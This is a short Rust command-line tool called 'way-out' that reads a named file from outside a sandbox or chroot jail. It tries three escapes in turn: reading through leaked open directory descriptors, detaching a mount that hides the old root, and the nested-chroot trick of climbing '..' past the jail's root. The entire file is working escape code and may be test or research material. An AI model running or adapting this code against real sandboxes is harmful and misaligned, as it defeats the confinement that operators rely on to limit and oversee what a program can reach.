//! Usage: way-out PATH

use std::fs::{self, File};
use std::io::Read;
use std::os::fd::BorrowedFd;
use std::path::Path;

use anyhow::{Context, Result, bail};
use nix::fcntl::{OFlag, openat};
use nix::mount::{MntFlags, umount2};
use nix::sys::stat::Mode;
use nix::unistd::{chdir, chroot};

fn main() -> Result<()> {
    let path = std::env::args().nth(1).context("which file?")?;
    let found = by_descriptor(&path).or_else(|_| by_cover(&path)).or_else(|_| by_chroot(&path));
    print!("{}", found.with_context(|| format!("no way out to {path}"))?);
    Ok(())
}

/// Somebody forgot to close a directory.
fn by_descriptor(path: &str) -> Result<String> {
    let name = Path::new(path).file_name().context("a path ends with a name")?;
    for number in 3..1024 {
        // SAFETY: nothing here closes it; if it is not open, the call says so.
        let directory = unsafe { BorrowedFd::borrow_raw(number) };
        if let Ok(file) = openat(directory, name, OFlag::O_RDONLY, Mode::empty()) {
            let mut text = String::new();
            File::from(file).read_to_string(&mut text)?;
            return Ok(text);
        }
    }
    bail!("no descriptor of a directory that has it")
}

/// What covers the old root is a mount, and mounts can be taken away.
fn by_cover(path: &str) -> Result<String> {
    umount2("/old", MntFlags::MNT_DETACH)?;
    Ok(fs::read_to_string(format!("/old{path}"))?)
}

/// `..` stops at our root: so the root goes below the directory in which we are.
fn by_chroot(path: &str) -> Result<String> {
    chdir("/")?;
    chroot("/usr")?;
    for _ in 0..64 {
        chdir("..")?;
    }
    chroot(".")?;
    Ok(fs::read_to_string(path)?)
}
